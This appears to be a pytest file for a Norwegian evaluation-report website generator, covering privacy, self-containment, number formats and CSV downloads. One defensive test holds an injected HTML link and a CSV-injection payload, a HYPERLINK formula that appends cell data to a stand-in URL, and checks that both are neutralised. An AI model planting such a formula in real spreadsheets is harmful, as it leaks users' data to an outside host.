"""The report site as files: self-contained, private, within its size budget, every year shown."""

from __future__ import annotations

import json
import re
import sys
from pathlib import Path

import pandas as pd

from pipelines.report import format as fmt
from pipelines.settings import DEFAULT_DATA_DIR, PROJECT_ROOT
from tests import fixtures as fx
from tests.conftest import Built, build_plain

sys.path.insert(0, str(PROJECT_ROOT / "scripts"))
from site_size import LIMIT_BYTES, site_size  # noqa: E402


def site_text(site: Path) -> str:
    return "\n".join(
        p.read_text(encoding="utf-8-sig", errors="replace")
        for p in site.rglob("*")
        if p.is_file() and p.suffix != ".xlsx"
    )


def test_no_informant_name_or_id_in_the_site(sample_build: Built) -> None:
    informants = pd.read_csv(DEFAULT_DATA_DIR / "interviews/informants.csv", dtype=str)
    text = site_text(sample_build.reports_dir)
    for column in ("navn", "informant_id", "intervju_id"):
        for value in informants[column]:
            assert value not in text, value
    assert "(intervju, " in text or "(gruppeintervju, " in text


def test_quotes_are_attributed_by_title_only(sample_build: Built) -> None:
    html = "".join(p.read_text(encoding="utf-8") for p in sample_build.reports_dir.glob("*.html"))
    attributions = re.findall(r"<figcaption>\((?:gruppe)?intervju, ([^)]*)\)</figcaption>", html)
    assert attributions
    titles = set(pd.read_csv(DEFAULT_DATA_DIR / "interviews/informants.csv", dtype=str)["tittel"])
    for attribution in attributions:
        assert set(re.split(r", | og ", attribution)) <= titles  # «a, b og c»


def test_site_is_self_contained(sample_build: Built) -> None:
    for html in sample_build.reports_dir.glob("*.html"):
        text = html.read_text(encoding="utf-8")
        assert not re.search(r"""(src|href)=["'](https?:)?//""", text), html.name
        for target in re.findall(r"""(?:src|href)="([^"#]+)""", text):
            assert (sample_build.reports_dir / target).is_file(), (html.name, target)
    assert (sample_build.reports_dir / "assets" / "plotly-basic.min.js").is_file()


def test_site_is_under_five_megabytes(sample_build: Built) -> None:
    sizes = site_size(sample_build.reports_dir)
    assert sizes["total"] < LIMIT_BYTES


def test_every_reporting_year_appears(tmp_path: Path) -> None:
    data = fx.make_data_dir(tmp_path / "data")
    fx.write_csv(
        data / "reporting/2013/rapporter.csv",
        [fx.REPORT_HEADER, ["1201", "BLD", "2013", "alle", "", "", "alle", "ja", "ja"]],
    )
    fx.write_csv(
        data / "reporting/2013/tiltak.csv",
        [fx.MEASURE_HEADER, ["1201", "BLD", "2013", "Sommerleir", "fritid", "alle", "5000", "", "ny", ""]],
    )
    built = build_plain(data, tmp_path / "out")
    goals = (built.reports_dir / "kapittel-4-maloppnaelse.html").read_text(encoding="utf-8")
    assert "2007–2013" in goals and ">2013<" in goals
    measures = (built.reports_dir / "tiltak-2013.html").read_text(encoding="utf-8")
    assert 'id="tiltak-2013"' in measures and "Sommerleir" in measures
    chapter = (built.reports_dir / "kapittel-3-tiltakene.html").read_text(encoding="utf-8")
    assert '<a href="tiltak-2013.html">Tiltak rapportert for 2013</a>' in chapter


def test_templates_name_no_year() -> None:
    for path in (PROJECT_ROOT / "pipelines" / "report").rglob("*"):
        if path.suffix in (".py", ".html", ".js", ".css") and "vendor" not in path.parts:
            # (a year inside a URI, like OOXML's .../2006/main namespace, is not a reporting year)
            assert not re.search(r"(?<![/\d])200[678](?![/\d])", path.read_text(encoding="utf-8")), path.name


def test_norwegian_number_formats() -> None:
    assert fmt.number(150000) == "150\u00a0000"
    assert fmt.number(1234567.891, 1) == "1\u00a0234\u00a0567,9"
    assert fmt.percent(44.26) == "44\u00a0%"
    assert fmt.percent(44.5) == "45\u00a0%"  # half up, as people round
    assert fmt.percent(None) == ".."  # Statistics Norway's symbol for missing; «–» means nil
    assert fmt.points(12.3) == "12\u00a0prosentpoeng"
    assert fmt.number(-3.25, 1) == "−3,3"
    assert fmt.nok(40000) == "40\u00a0000\u00a0kr"


def test_every_documented_anchor_exists(sample_build: Built) -> None:
    doc = (PROJECT_ROOT / "docs" / "report.md").read_text(encoding="utf-8")
    anchors = re.findall(r"`([a-z0-9-]+\.html)#([a-z-]+)`", doc)
    assert len(anchors) >= 18
    for page, anchor in anchors:
        html = (sample_build.reports_dir / page).read_text(encoding="utf-8")
        assert f'id="{anchor}"' in html, (page, anchor)


def test_hostile_text_stays_text_in_charts_and_downloads(tmp_path: Path) -> None:
    """A unit name with markup is plain text in a chart; a measure name that a spreadsheet
    would run as a formula is neutralised in the CSV download (OWASP CSV injection)."""
    data = fx.make_data_dir(tmp_path / "data")
    units = [row[:] for row in fx.UNITS]
    units[1][1] = '<a href="https://example.invalid">Bergen</a>'
    fx.write_csv(data / "units.csv", units)
    measures = [row[:] for row in fx.MEASURES_2007]
    measures[1][3] = '=HYPERLINK("https://example.invalid?"&A1,"klikk")'
    measures[2][3] = "-2+3"
    fx.write_csv(data / "reporting/2007/tiltak.csv", measures)
    fx.write_csv(
        data / "context/lavinntekt.csv",
        [["enhet_id", "aar", "andel_barn_lavinntekt"], ["1201", "2007", "9,5"]],
    )
    built = build_plain(data, tmp_path / "out")
    page = (built.reports_dir / "kapittel-1-forstaelse.html").read_text(encoding="utf-8")
    # In the chart's data the name is entities (plotly shows them as text), escaped for <script>;
    # the one tag is the <br> that wraps a long label.
    assert '"y":["\\u0026lt;a\\u003cbr\\u003ehref=' in page
    assert '<a href="https://example.invalid">' not in page
    # A year's measures: shown as written; for Excel and for analysis, never a formula.
    listing = (built.reports_dir / "tiltak-2007.html").read_text(encoding="utf-8")
    payload = json.loads(listing.split('data-listing="tiltak-2007">')[1].split("</script>")[0])
    names = next(c["cells"] for c in payload["columns"] if c["key"] == "tiltak_navn")
    assert ["-2+3", "'-2+3", "'-2+3"] in names
    formulas = [c for c in names if isinstance(c, list) and c[0].startswith("=HYPERLINK(")]
    assert formulas and all(c[1] == c[2] == "'" + c[0] for c in formulas)


def test_statistics_norway_symbols_and_terms(fixture_build: Built) -> None:
    """«..» for a number that is missing, with its key under the table; «I alt» for the total of
    both schemes (in this evaluation «begge» also means the units with both schemes)."""
    page = (fixture_build.reports_dir / "kapittel-4-maloppnaelse.html").read_text(encoding="utf-8")
    table = page[page.index('id="tabell-suksess"') :]
    table = table[: table.index("</div>\n</div>") if "</div>\n</div>" in table else len(table)]
    assert '<td class="num">..</td>' in table  # BLD had no report that reached all goals and named a factor
    assert "«..» betyr at tallet mangler" in table
    assert '<th scope="col" class="num">I alt</th>' in page and ">Begge<" not in page
    assert '<td class="num">–</td>' not in page  # «–» is nil in SSB's standard, not «missing»


def test_csv_for_norwegian_excel(fixture_build: Built) -> None:
    """What a double-click in Norwegian Excel reads right: ';', a decimal comma, a BOM, the
    page's headers and its rounded values, «:» where a cell is hidden; and beside it the
    analysts' CSV with the mart's names and every digit."""
    folder = fixture_build.reports_dir / "nedlasting"
    raw = (folder / "tabell-svarprosent.csv").read_bytes()
    assert raw.startswith("\ufeff".encode())
    lines = raw.decode("utf-8-sig").splitlines()
    assert (
        lines[0]
        == "Fordeling;Gruppe;Prosjekter;Svar;Svarprosent;Andel av svarene;Ikke svar;Andel av frafallet"
    )
    assert "I alt;Alle;5;2;40;100;3;100" in lines
    vest = next(line for line in lines if line.startswith("Landsdel;Vest;"))
    assert vest.split(";")[3] == ":"
    goals = (folder / "tabell-maloppnaelse.csv").read_text(encoding="utf-8-sig").splitlines()
    assert goals[0].startswith("År;Ordning;Nådde alle sine målsettinger")
    data = (folder / "tabell-svarprosent-data.csv").read_text(encoding="utf-8-sig").splitlines()
    assert data[0].startswith("dim_label,value_label,n_projects,n_respondents,pct")


def test_publisher_and_contact_come_from_the_settings(tmp_path: Path, monkeypatch) -> None:
    """«Om statistikken» and the accessibility statement name the publisher and the contact
    the evaluator set, and say plainly when none is set."""
    data = fx.make_data_dir(tmp_path / "data")
    plain = build_plain(data, tmp_path / "plain")
    method = (plain.reports_dir / "data-og-metode.html").read_text(encoding="utf-8")
    assert "Utgiver: ikke oppgitt. Kontakt: ikke oppgitt." in method and 'id="om-statistikken"' in method
    monkeypatch.setenv("GRANT_EVAL_PUBLISHER", "Bufdir")
    monkeypatch.setenv("GRANT_EVAL_CONTACT", "postmottak@bufdir.no")
    named = build_plain(data, tmp_path / "named")
    method = (named.reports_dir / "data-og-metode.html").read_text(encoding="utf-8")
    assert "Utgiver: Bufdir. Kontakt: postmottak@bufdir.no. Publisert " in method
    statement = (named.reports_dir / "tilgjengelighet.html").read_text(encoding="utf-8")
    assert "utgiveren, Bufdir (kontakt: postmottak@bufdir.no)" in statement
    # the statement is dated with the report it belongs to
    published = re.search(r"Publisert (\d\d\.\d\d\.\d{4})\.", method)
    assert published and f"Erklæringen gjelder rapporten publisert {published.group(1)}," in statement


def test_tables_and_figures_numbered_with_a_source(sample_build: Built) -> None:
    """Every table names its source; a chapter's tables and figures are numbered in reading
    order («Tabell 3.1», «Figur 3.1»), so that a letter can cite them."""
    for page in sorted(sample_build.reports_dir.glob("*.html")):
        text = page.read_text(encoding="utf-8")
        blocks = text.split('<div class="table-block"')[1:]
        assert all('<p class="source">Kilde: ' in block for block in blocks), page.name
        chapter = re.match(r"kapittel-(\d)-", page.name)
        tables = re.findall(r'<span class="number">Tabell ([\d.]+)</span>', text)
        figures = re.findall(r'<span class="number">Figur ([\d.]+)</span>', text)
        if chapter is None:
            assert tables == figures == [], page.name
            continue
        assert tables == [f"{chapter.group(1)}.{i}" for i in range(1, len(blocks) + 1)], page.name
        assert figures == [f"{chapter.group(1)}.{i}" for i in range(1, len(figures) + 1)], page.name


def test_small_bases_are_flagged(fixture_build: Built, sample_build: Built) -> None:
    """A percentage on fewer than 20 answers carries a note under its table (SSB's practice of
    warning about small bases); a table whose bases are all 20 or more has none."""
    from pipelines.report.model import SMALL_BASE_NOTE

    def table_text(built: Built, page: str, table_id: str) -> str:
        text = (built.reports_dir / f"{page}.html").read_text(encoding="utf-8")
        block = text[text.index(f'<div class="table-block" id="{table_id}"') :]
        return block[: block.index('<p class="downloads">')]

    assert SMALL_BASE_NOTE in table_text(fixture_build, "kapittel-4-maloppnaelse", "tabell-maloppnaelse")
    assert SMALL_BASE_NOTE not in table_text(sample_build, "kapittel-4-maloppnaelse", "tabell-maloppnaelse")
